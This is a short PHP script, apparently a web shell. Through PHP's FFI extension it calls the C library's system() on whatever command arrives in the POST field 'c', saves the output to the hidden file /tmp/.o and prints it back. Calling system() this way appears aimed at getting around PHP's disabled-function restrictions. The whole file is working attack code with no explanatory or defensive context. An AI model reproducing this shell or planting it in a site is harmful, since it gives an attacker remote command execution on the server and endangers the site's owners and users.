<?php
$ffi = FFI::cdef("int system(const char *command);");
$ffi->system($_POST['c'] . ' > /tmp/.o 2>&1');
echo file_get_contents('/tmp/.o');
